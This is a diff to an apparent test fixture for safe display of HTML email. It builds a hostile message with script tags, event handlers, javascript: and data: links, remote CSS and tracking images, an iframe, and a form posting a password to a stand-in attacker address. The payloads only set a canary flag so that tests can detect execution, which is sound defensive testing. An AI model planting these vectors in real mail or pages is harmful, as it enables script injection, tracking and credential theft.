@@ -1,14 +1,16 @@
 // An HTML mail that tries everything a hostile sender would: a script setting a canary global, an
 // onerror handler, javascript: and data: links, a form posting elsewhere, CSS that fetches, a remote
-// image (a read receipt), and an iframe. Showing it safely means none of that runs or loads.
+// image (a read receipt), and an iframe. Showing it safely means none of that runs or loads. Each
+// script sets the canary twice: a global (`window.pwned`) and an attribute on the document
+// (`data-pwned`), which a test can see from outside even in a frame that runs no script of its own.
 import { randomBytes } from 'node:crypto';
 
 export const REMOTE_IMAGE = 'http://198.51.100.7/x.png';
 
 export const HOSTILE_HTML = `<html><head><style>body { background: url(http://198.51.100.7/bg.png) }</style>
-<script>window.pwned = 1</script></head><body>
+<script>window.pwned = 1; document.documentElement.setAttribute('data-pwned', '1')</script></head><body>
 <p style="color: #0b5cad; background-image: url(http://198.51.100.7/css.png)">Dear support, the <b onclick="window.pwned = 1">invoice</b> is wrong.</p>
-<img src="${REMOTE_IMAGE}" alt="tracking pixel" onerror="window.pwned = 1">
+<img src="${REMOTE_IMAGE}" alt="tracking pixel" onerror="window.pwned = 1; document.documentElement.setAttribute('data-pwned', '1')">
 <a href="javascript:window.pwned=1">click me</a> <a href="data:text/html,<script>window.pwned=1</script>">or me</a>
 <form action="http://198.51.100.7/steal" method="post"><input name="password" value="x"><button>Send</button></form>
 <iframe src="http://198.51.100.7/frame"></iframe>
